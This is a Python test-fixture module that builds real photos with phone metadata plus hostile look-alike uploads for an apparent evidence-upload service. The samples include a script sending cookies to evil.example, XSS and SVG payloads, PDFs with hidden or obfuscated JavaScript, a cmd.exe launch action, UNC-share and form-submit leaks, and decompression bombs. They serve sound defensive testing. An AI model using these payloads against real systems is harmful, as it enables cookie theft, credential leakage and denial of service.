"""Real files for upload tests: photos with the metadata phones write, PDFs, and hostile look-alikes.

Every generator returns bytes; `uploaded()` and `uploaded_on_disk()` wrap them the way Django hands
uploads to a view (in memory, or spooled to a temporary file), with whatever name and content type a
browser, or an attacker, might send.
"""

import io
import struct
import zlib
from fractions import Fraction

from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from PIL import ExifTags, Image, ImageCms, ImageDraw, PngImagePlugin
from PIL.TiffImagePlugin import IFDRational
from pypdf import PdfWriter

CAMERA_MAKE = "AcmePhone"
CAMERA_MODEL = "Acme X200"
CAMERA_SERIAL = "SN-0042-7731"
CAPTURED_AT = "2024:05:17 14:03:22"
COMMENT = b"Taken from my kitchen window"
XMP_MARKER = "reporter-home-street"


# --- Wrapping ------------------------------------------------------------------------------------


def uploaded(content: bytes, name: str = "evidence.jpg", content_type: str = "image/jpeg") -> SimpleUploadedFile:
    """An in-memory upload; the content type is whatever the browser claimed, true or not."""
    return SimpleUploadedFile(name, content, content_type=content_type)


def uploaded_on_disk(content: bytes, name: str = "evidence.jpg", content_type: str = "image/jpeg"):
    """A TemporaryUploadedFile, as Django makes for uploads above FILE_UPLOAD_MAX_MEMORY_SIZE."""
    upload = TemporaryUploadedFile(name, content_type, len(content), None)
    upload.write(content)
    upload.seek(0)
    return upload


# --- Photos --------------------------------------------------------------------------------------


def _picture(width: int, height: int, mode: str = "RGB") -> Image.Image:
    """A picture with a red block in the stored top-left corner, so rotation can be checked."""
    image = Image.new("RGB", (width, height), (40, 120, 200))
    draw = ImageDraw.Draw(image)
    draw.rectangle((0, 0, width // 4, height // 4), fill=(230, 20, 20))
    draw.ellipse((width // 3, height // 3, width // 2, height // 2), fill=(250, 230, 50))
    return image if mode == "RGB" else image.convert(mode)


def _dms(value: float) -> tuple[IFDRational, IFDRational, IFDRational]:
    degrees = int(value)
    minutes = int((value - degrees) * 60)
    seconds = Fraction((value - degrees - minutes / 60) * 3600).limit_denominator(10_000)
    return (
        IFDRational(degrees, 1),
        IFDRational(minutes, 1),
        IFDRational(seconds.numerator, seconds.denominator),
    )


def phone_exif(lat: float | None = 43.3, lon: float | None = 68.25, orientation: int | None = None) -> Image.Exif:
    """EXIF as a phone writes it: make, model, body serial, capture time, GPS position."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = CAMERA_MAKE
    exif[ExifTags.Base.Model] = CAMERA_MODEL
    exif[ExifTags.Base.Software] = "AcmeOS 17.2"
    if orientation is not None:
        exif[ExifTags.Base.Orientation] = orientation
    details = exif.get_ifd(ExifTags.IFD.Exif)
    details[ExifTags.Base.DateTimeOriginal] = CAPTURED_AT
    details[ExifTags.Base.BodySerialNumber] = CAMERA_SERIAL
    if lat is not None and lon is not None:
        gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
        gps[ExifTags.GPS.GPSVersionID] = b"\x02\x03\x00\x00"
        gps[ExifTags.GPS.GPSLatitudeRef] = "N" if lat >= 0 else "S"
        gps[ExifTags.GPS.GPSLatitude] = _dms(abs(lat))
        gps[ExifTags.GPS.GPSLongitudeRef] = "E" if lon >= 0 else "W"
        gps[ExifTags.GPS.GPSLongitude] = _dms(abs(lon))
    return exif


def _xmp() -> bytes:
    return (
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        f'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:source="{XMP_MARKER}"/>'
        "</rdf:RDF></x:xmpmeta>"
    ).encode()


def srgb_icc_profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def jpeg_with_gps(
    width: int = 800, height: int = 600, lat: float = 43.3, lon: float = 68.25, orientation: int | None = None
) -> bytes:
    """A JPEG carrying everything that could identify a reporter: EXIF with GPS and serial, XMP,
    an ICC profile and a comment."""
    buffer = io.BytesIO()
    _picture(width, height).save(
        buffer,
        format="JPEG",
        quality=90,
        exif=phone_exif(lat, lon, orientation),
        xmp=_xmp(),
        icc_profile=srgb_icc_profile(),
        comment=COMMENT,
    )
    return buffer.getvalue()


def noisy_jpeg(width: int = 6000, height: int = 4000, quality: int = 95, orientation: int | None = None) -> bytes:
    """A large photo-like JPEG (noise compresses badly, like real detail): 6000x4000 is ~15 MB."""
    noise = Image.effect_noise((width, height), 120)
    image = Image.merge("RGB", (noise, noise.transpose(Image.Transpose.FLIP_LEFT_RIGHT), noise))
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", quality=quality, exif=phone_exif(orientation=orientation))
    return buffer.getvalue()


def png_bytes(width: int = 640, height: int = 480) -> bytes:
    buffer = io.BytesIO()
    _picture(width, height).save(buffer, format="PNG", exif=phone_exif())
    return buffer.getvalue()


def webp_bytes(width: int = 640, height: int = 480) -> bytes:
    buffer = io.BytesIO()
    _picture(width, height).save(buffer, format="WEBP", quality=80, exif=phone_exif().tobytes())
    return buffer.getvalue()


def cmyk_jpeg(width: int = 400, height: int = 300) -> bytes:
    buffer = io.BytesIO()
    _picture(width, height, "CMYK").save(buffer, format="JPEG", quality=90)
    return buffer.getvalue()


def png_16bit(width: int = 256, height: int = 64) -> bytes:
    """16-bit greyscale ("I;16"): a horizontal ramp from black to white across the full 0-65535 range."""
    image = Image.new("I;16", (width, height))
    image.putdata([x * 65535 // (width - 1) for _ in range(height) for x in range(width)])
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    return buffer.getvalue()


def rgba_png(width: int = 200, height: int = 100) -> bytes:
    """Left half opaque red, right half fully transparent (black underneath)."""
    image = Image.new("RGBA", (width, height), (0, 0, 0, 0))
    ImageDraw.Draw(image).rectangle((0, 0, width // 2 - 1, height), fill=(255, 0, 0, 255))
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    return buffer.getvalue()


def palette_png_with_transparency(width: int = 120, height: int = 80) -> bytes:
    image = Image.new("P", (width, height), 0)
    image.putpalette([0, 0, 0, 0, 128, 0] + [0] * 762)
    ImageDraw.Draw(image).rectangle((0, 0, width // 2 - 1, height), fill=1)
    buffer = io.BytesIO()
    image.save(buffer, format="PNG", transparency=0)
    return buffer.getvalue()


def gif_bytes() -> bytes:
    """A real image, but not a type we accept."""
    buffer = io.BytesIO()
    _picture(64, 48).convert("P").save(buffer, format="GIF")
    return buffer.getvalue()


def heic_bytes(width: int = 640, height: int = 480, orientation: int | None = None) -> bytes:
    """An iPhone-style HEIC with GPS EXIF (needs pillow-heif, with its HEVC encoder)."""
    import pillow_heif

    pillow_heif.register_heif_opener()
    buffer = io.BytesIO()
    _picture(width, height).save(buffer, format="HEIF", exif=phone_exif(orientation=orientation).tobytes())
    return buffer.getvalue()


def heic_lookalike() -> bytes:
    """The first bytes of an iPhone HEIC (an ISO-BMFF "ftyp" box, brand heic) and nothing decodable."""
    return b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(64)


def jpeg_with_broken_exif() -> bytes:
    """A good JPEG whose APP1 Exif segment is garbage, as some cheap cameras and editors write."""
    good = _jpeg_plain(320, 240)
    garbage = b"Exif\x00\x00MM\x00\x2a\x00\x00\x00\x08\xff\xff" + b"\x13\x37" * 40
    segment = b"\xff\xe1" + struct.pack(">H", len(garbage) + 2) + garbage
    return good[:2] + segment + good[2:]


def jpeg_with_impossible_gps() -> bytes:
    """GPS rationals with zero denominators and a latitude beyond the pole."""
    exif = phone_exif()
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitude] = (IFDRational(95, 1), IFDRational(0, 1), IFDRational(0, 1))
    gps[ExifTags.GPS.GPSLongitude] = (IFDRational(1, 0), IFDRational(0, 1), IFDRational(0, 1))
    buffer = io.BytesIO()
    _picture(320, 240).save(buffer, format="JPEG", exif=exif)
    return buffer.getvalue()


def _jpeg_plain(width: int, height: int) -> bytes:
    buffer = io.BytesIO()
    _picture(width, height).save(buffer, format="JPEG", quality=85)
    return buffer.getvalue()


# --- Hostile or broken "photos" ------------------------------------------------------------------


def html_as_jpg() -> bytes:
    return b"<html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>"


def script_bytes() -> bytes:
    return b"<script>alert(document.domain)</script>"


def svg_bytes() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>'


def text_file() -> bytes:
    return "Завод снова сбрасывает отходы в реку.\n".encode()


def png_header_then_html() -> bytes:
    """The polyglot Django's docs warn about: a valid PNG signature, then an HTML page."""
    return b"\x89PNG\r\n\x1a\n" + b"<html><script>alert(1)</script></html>" * 4


def truncated_jpeg(width: int = 800, height: int = 600) -> bytes:
    whole = jpeg_with_gps(width, height)
    return whole[: len(whole) * 2 // 3]


def png_declaring(width: int, height: int) -> bytes:
    """A 1-bit PNG of width x height, written row by row so neither the file nor the generator
    ever holds the pixels: 20000x20000 (400 MP) is about 50 KB."""
    row = b"\x00" + bytes((width + 7) // 8)  # filter byte "None", then all-black pixels
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row) for _ in range(height)]
    data = b"".join(parts) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
        + _png_chunk(b"IDAT", data)
        + _png_chunk(b"IEND", b"")
    )


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def decompression_bomb_png() -> bytes:
    """400 megapixels in about 50 KB: over Pillow's own hard limit as well as ours."""
    return png_declaring(20_000, 20_000)


def zero_bytes() -> bytes:
    return b""


def huge_file(size: int) -> bytes:
    """A file of `size` bytes that starts like a JPEG (the size check must come first)."""
    return b"\xff\xd8\xff\xe0" + bytes(max(0, size - 4))


# --- PDFs ----------------------------------------------------------------------------------------


def pdf_bytes(pages: int = 1) -> bytes:
    """A real PDF of blank A4 pages, written by pypdf."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Title": "Water samples, May 2024"})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_from_photos(pages: int = 2) -> bytes:
    """What a phone's "scan document" feature makes: JPEG pages in a PDF, written by Pillow."""
    images = [Image.effect_noise((600, 800), 40 + page).convert("RGB") for page in range(pages)]
    buffer = io.BytesIO()
    images[0].save(buffer, format="PDF", save_all=True, append_images=images[1:], quality=80)
    return buffer.getvalue()


def pdf_without_pages() -> bytes:
    buffer = io.BytesIO()
    PdfWriter().write(buffer)
    return buffer.getvalue()


def pdf_with_javascript() -> bytes:
    """Document-level JavaScript run when the PDF opens, written by pypdf itself."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    script = "app.alert('You have been pwned');"
    try:
        from pypdf.actions import JavaScript  # pypdf >= 7
    except ImportError:
        writer.add_js(script)
    else:
        writer.add_open_action(JavaScript(script))
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def fake_pdf() -> bytes:
    return b"%PDF-1.7\n" + b"\x00garbage that is no PDF at all\n" * 20


_PAGE_TREE = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
]


def handmade_pdf(catalog_extra: bytes = b"", objects: tuple[bytes, ...] = (), content: bytes = b"") -> bytes:
    """A minimal PDF written by hand: 1 catalog, 2 pages, 3 page, 4 content stream, then `objects`
    numbered from 5. Lets a test put exactly the construct it needs where it wants it."""
    stream = b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"
    bodies = [b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>", *_PAGE_TREE, stream, *objects]
    return _assemble_pdf(bodies)


def _assemble_pdf(bodies: list[bytes]) -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref)
    return bytes(out)


def pdf_with_open_action_javascript() -> bytes:
    return handmade_pdf(b"/OpenAction 5 0 R", (b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>",))


def pdf_with_obfuscated_javascript() -> bytes:
    """The same, with the names written in #xx escapes (/J#53 is /JS) to dodge naive scanners."""
    return handmade_pdf(b"/OpenAction 5 0 R", (b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",))


def pdf_with_launch_action() -> bytes:
    return handmade_pdf(b"/OpenAction 5 0 R", (b"<< /S /Launch /F (cmd.exe) >>",))


def pdf_with_xfa_form() -> bytes:
    return handmade_pdf(b"/AcroForm << /Fields [] /XFA 5 0 R >>", (b"<< /Length 0 >>\nstream\n\nendstream",))


def pdf_with_harmless_open_action() -> bytes:
    """/OpenAction that only opens page 1 at full width: common and harmless."""
    return handmade_pdf(b"/OpenAction [3 0 R /FitH null]")


def pdf_mentioning_javascript_in_page_text() -> bytes:
    """A page whose drawn text says "/JavaScript" and "/JS": stream content, not a PDF action."""
    return handmade_pdf(content=b"BT 10 100 Td (see /JavaScript and /JS in the manual) Tj ET")


def pdf_with_page_tree_loop() -> bytes:
    """A page tree whose /Kids points back to itself."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    pages = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"
    return _assemble_pdf([catalog, pages, page])


def pdf_with_javascript_in_object_stream() -> bytes:
    """The JavaScript action lives inside a compressed object stream (PDF 1.5), invisible to any
    scan of the raw bytes; only a parser finds it."""
    hidden = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    header = b"5 0 "
    packed = zlib.compress(header + hidden)
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        _PAGE_TREE[0],
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (len(header), len(packed))
        + packed
        + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in enumerate(bodies, start=1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_offset = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[number], 0) for number in (1, 2, 3, 4)]
    rows += [struct.pack(">BIH", 2, 4, 0)]  # object 5: in object stream 4, index 0
    rows += [struct.pack(">BIH", 1, xref_offset, 0)]  # object 6: this cross-reference stream
    table = b"".join(rows)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    )
    return bytes(out)


# --- Every metadata carrier we can make (tests/test_evidence_sanitising.py) -----------------------

AUTHOR = "Aigerim Seitkali"
PRODUCER = "AcmeScan 4.1 build 7731"
GPS_TEXT = "43.318200"  # the position as text, the way XMP and PDF properties carry it
EXFIL_URI = "https://collector.example/pixel?id=reporter-42"
SHARE_PATH = "\\\\files.collector.example\\share\\bait.pdf"
SUBMIT_URL = "https://collector.example/submit"
VISIBLE_TEXT = "WATER SAMPLE 17"
INVISIBLE_TEXT = "hidden OCR layer names Seitkali"
# Every string a stranger must not find in a public copy, in any encoding the tests search.
SECRETS = (AUTHOR, PRODUCER, GPS_TEXT, EXFIL_URI, "collector.example", CAMERA_SERIAL, CAMERA_MAKE, XMP_MARKER)


def xmp_packet() -> bytes:
    """XMP as cameras and PDF writers write it: creator, GPS as text, a marker, a creator tool."""
    return (
        '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:exif="http://ns.adobe.com/exif/1.0/"'
        f' xmlns:xmp="http://ns.adobe.com/xap/1.0/" dc:source="{XMP_MARKER}" exif:GPSLatitude="{GPS_TEXT}"'
        f' xmp:CreatorTool="{PRODUCER}"><dc:creator><rdf:Seq><rdf:li>{AUTHOR}</rdf:li></rdf:Seq></dc:creator>'
        '</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
    ).encode()


def phone_exif_with_owner() -> Image.Exif:
    exif = phone_exif()
    exif[ExifTags.Base.Artist] = AUTHOR
    exif.get_ifd(ExifTags.IFD.Exif)[ExifTags.Base.CameraOwnerName] = AUTHOR
    return exif


def _iptc_segment() -> bytes:
    """A Photoshop APP13 segment with IPTC by-line and city, as news photo tools write."""
    records = b"".join(
        b"\x1c\x02" + bytes([dataset]) + struct.pack(">H", len(value)) + value
        for dataset, value in ((80, AUTHOR.encode()), (90, b"Aksu"))
    )
    resource = b"8BIM\x04\x04\x00\x00" + struct.pack(">I", len(records)) + records
    body = b"Photoshop 3.0\x00" + resource
    return b"\xff\xed" + struct.pack(">H", len(body) + 2) + body


def jpeg_with_every_carrier(width: int = 400, height: int = 300) -> bytes:
    """EXIF (GPS, serial, owner), XMP, ICC profile, COM comment and an IPTC block."""
    buffer = io.BytesIO()
    _picture(width, height).save(
        buffer,
        format="JPEG",
        quality=90,
        exif=phone_exif_with_owner(),
        xmp=xmp_packet(),
        icc_profile=srgb_icc_profile(),
        comment=COMMENT,
    )
    plain = buffer.getvalue()
    return plain[:2] + _iptc_segment() + plain[2:]


def png_with_every_carrier(width: int = 320, height: int = 240) -> bytes:
    """tEXt (Author, Comment), zTXt, iTXt XMP, eXIf, iCCP, and a tIME chunk written by hand."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", AUTHOR)
    info.add_text("Comment", COMMENT.decode())
    info.add_text("Software", PRODUCER, zip=True)
    info.add_itxt("XML:com.adobe.xmp", xmp_packet().decode())
    buffer = io.BytesIO()
    _picture(width, height).save(
        buffer, format="PNG", pnginfo=info, exif=phone_exif_with_owner(), icc_profile=srgb_icc_profile()
    )
    data = buffer.getvalue()
    end = data.rindex(b"IEND") - 4
    return data[:end] + _png_chunk(b"tIME", struct.pack(">HBBBBB", 2024, 5, 17, 14, 3, 22)) + data[end:]


def webp_with_every_carrier(width: int = 320, height: int = 240) -> bytes:
    """EXIF and XMP chunks and an ICC profile in a WebP container."""
    buffer = io.BytesIO()
    _picture(width, height).save(
        buffer,
        format="WEBP",
        quality=80,
        exif=phone_exif_with_owner().tobytes(),
        xmp=xmp_packet(),
        icc_profile=srgb_icc_profile(),
    )
    return buffer.getvalue()


def heic_with_every_carrier(width: int = 320, height: int = 240) -> bytes:
    """EXIF and XMP items in a HEIF container (needs pillow-heif)."""
    import pillow_heif

    pillow_heif.register_heif_opener()
    buffer = io.BytesIO()
    _picture(width, height).save(buffer, format="HEIF", exif=phone_exif_with_owner().tobytes(), xmp=xmp_packet())
    return buffer.getvalue()


# --- PDFs that carry more than their pages --------------------------------------------------------


def _pdf_string(text: str) -> bytes:
    return b"(" + text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1") + b")"


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def hostile_pdf(
    info: bool = True,
    xmp: bool = True,
    photo: bool = True,
    open_action: str | None = "uri",
    page_action: bool = True,
    annotations: bool = True,
    invisible_text: bool = True,
    pages: int = 1,
) -> bytes:
    """A PDF whose pages show a photo and a line of text, and which carries, as asked:

    the document information dictionary (author, producer, GPS in the subject...), an XMP stream
    with dc:creator, a JPEG with phone EXIF (GPS, serial) drawn on the page, an /OpenAction (a web
    address that fires on open, or a \\\\host\\share path a Windows reader opens with the user's
    credentials), a page /AA that submits a form on open, a sticky note signed by the author and a
    link, and an invisible text layer (render mode 3, as OCR writes) naming the author."""
    photo_bytes = jpeg_with_every_carrier(300, 200)
    text = b"BT /F1 28 Tf 60 700 Td (%s) Tj ET" % VISIBLE_TEXT.encode()
    if invisible_text:
        text += b" BT 3 Tr /F1 12 Tf 60 660 Td %s Tj ET" % _pdf_string(INVISIBLE_TEXT)
    content = (b"q 300 0 0 200 60 400 cm /Photo Do Q " if photo else b"") + text
    objects: dict[str, bytes] = {}
    numbers: dict[str, int] = {}

    def add(key: str, body: bytes) -> bytes:
        numbers[key] = len(objects) + 1
        objects[key] = body
        return b"%d 0 R" % numbers[key]

    # Fixed numbers first: 1 catalog, 2 pages; the rest follow in the order they are added.
    add("catalog", b"")
    add("pages", b"")
    font = add("font", b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    image = (
        add(
            "photo",
            _stream(
                b"/Type /XObject /Subtype /Image /Width 300 /Height 200 /ColorSpace /DeviceRGB "
                b"/BitsPerComponent 8 /Filter /DCTDecode",
                photo_bytes,
            ),
        )
        if photo
        else b""
    )
    drawn = b" /XObject << /Photo " + image + b" >>" if photo else b""
    resources = b"<< /Font << /F1 " + font + b" >>" + drawn + b" >>"
    page_refs = []
    for _ in range(pages):
        contents = add(f"content{len(page_refs)}", _stream(b"", content))
        extra = b""
        if page_action:
            extra += b" /AA << /O << /S /SubmitForm /F << /FS /URL /F %s >> /Flags 4 >> >>" % _pdf_string(SUBMIT_URL)
        if annotations:
            note = add(
                f"note{len(page_refs)}",
                b"<< /Type /Annot /Subtype /Text /Rect [500 780 520 800] "
                b"/T %s /Contents %s >>" % (_pdf_string(AUTHOR), _pdf_string(COMMENT.decode())),
            )
            link = add(
                f"link{len(page_refs)}",
                b"<< /Type /Annot /Subtype /Link /Rect [60 690 400 730] "
                b"/Border [0 0 0] /A << /S /URI /URI %s >> >>" % _pdf_string(EXFIL_URI),
            )
            extra += b" /Annots [" + note + b" " + link + b"]"
        page_refs.append(
            add(
                f"page{len(page_refs)}",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
                b"/Resources " + resources + b" /Contents " + contents + extra + b" >>",
            )
        )
    catalog_extra = b""
    if xmp:
        catalog_extra += b" /Metadata " + add("xmp", _stream(b"/Type /Metadata /Subtype /XML", xmp_packet()))
    if open_action == "uri":
        catalog_extra += b" /OpenAction << /S /URI /URI %s >>" % _pdf_string(EXFIL_URI)
    elif open_action == "share":
        catalog_extra += b" /OpenAction << /S /GoToR /F %s /D [0 /Fit] >>" % _pdf_string(SHARE_PATH)
    objects["catalog"] = b"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + b" >>"
    objects["pages"] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(page_refs), pages)
    trailer_extra = b""
    if info:
        trailer_extra = b" /Info " + add(
            "info",
            b"<< /Author %s /Title (Letter to the akimat) /Subject %s "
            b"/Producer %s /Creator %s /CreationDate (D:20240517140322+05'00') >>"
            % (_pdf_string(AUTHOR), _pdf_string(GPS_TEXT), _pdf_string(PRODUCER), _pdf_string(PRODUCER)),
        )
    pdf = _assemble_pdf(list(objects.values()))
    # The trailer comes after every object, so adding to it moves no offset.
    return pdf.replace(b"/Root 1 0 R >>", b"/Root 1 0 R" + trailer_extra + b" >>")


def webp_declaring(width: int, height: int) -> bytes:
    """A lossless WebP whose header declares width x height (up to WebP's 16383), made from a
    1x1 picture by rewriting its VP8L header: flat colour at that size would compress to a few KB,
    so the header is what an attacker controls and all a decoder has to go on."""
    buffer = io.BytesIO()
    Image.new("RGB", (1, 1), (40, 120, 200)).save(buffer, format="WEBP", lossless=True)
    data = bytearray(buffer.getvalue())
    start = data.index(b"VP8L") + 8
    assert data[start] == 0x2F  # the VP8L signature byte
    bits = int.from_bytes(data[start + 1 : start + 5], "little")
    bits = (bits & ~((1 << 28) - 1)) | (width - 1) | ((height - 1) << 14)
    data[start + 1 : start + 5] = bits.to_bytes(4, "little")
    return bytes(data)


def pdf_with_image_bomb(side: int = 20_000) -> bytes:
    """A page drawing a side x side grey image object whose Flate data is a few hundred KB of zeros
    (20000 x 20000 is 400 MB once inflated)."""
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(bytes(side)) for _ in range(side)) + compressor.flush()
    image = _stream(
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 "
        b"/Filter /FlateDecode" % (side, side),
        data,
    )
    pdf = handmade_pdf(content=b"q 200 0 0 200 0 0 cm /Im Do Q", objects=(image,))
    return pdf.replace(b"/Contents 4 0 R", b"/Resources << /XObject << /Im 5 0 R >> >> /Contents 4 0 R")


def pdf_with_inline_image_bomb(side: int = 12_000) -> bytes:
    """The same bomb as an inline image (BI ... ID ... EI) inside the page's content stream: it is
    no PDF object, so only the renderer's own limits stand in its way."""
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(bytes(side)) for _ in range(side)) + compressor.flush()
    content = b"q 200 0 0 200 0 0 cm BI /W %d /H %d /CS /G /BPC 8 /F /Fl ID " % (side, side) + data + b" EI Q"
    return handmade_pdf(content=content)


def pdf_with_page_size(width: float, height: float) -> bytes:
    return handmade_pdf().replace(b"[0 0 200 200]", b"[0 0 %.2f %.2f]" % (width, height))


def png_with_idat_beyond_its_pixels(side: int = 100, extra: int = 300_000_000) -> bytes:
    """A side x side RGB PNG whose pixel stream goes on with `extra` zero bytes: 0.3 MB that would
    inflate to 300 MB if a decoder read past the last row."""
    compressor = zlib.compressobj(9)
    data = compressor.compress((b"\x00" + bytes(side * 3)) * side)
    data += b"".join(compressor.compress(bytes(10_000_000)) for _ in range(extra // 10_000_000))
    data += compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
        + _png_chunk(b"IDAT", data)
        + _png_chunk(b"IEND", b"")
    )


def png_with_text_bomb(kind: bytes = b"zTXt", inflated: int = 100_000_000, chunks: int = 1) -> bytes:
    """A small PNG carrying compressed text chunks (zTXt, or compressed iTXt) that inflate to
    `inflated` bytes each."""
    packed = zlib.compress(bytes(inflated), 9)
    if kind == b"zTXt":
        body = b"Comment\x00\x00" + packed
    else:
        body = b"Comment\x00\x01\x00\x00\x00" + packed  # compressed, no language, no translated keyword
    picture = png_bytes(64, 48)
    end = picture.rindex(b"IEND") - 4
    return picture[:end] + _png_chunk(kind, body) * chunks + picture[end:]
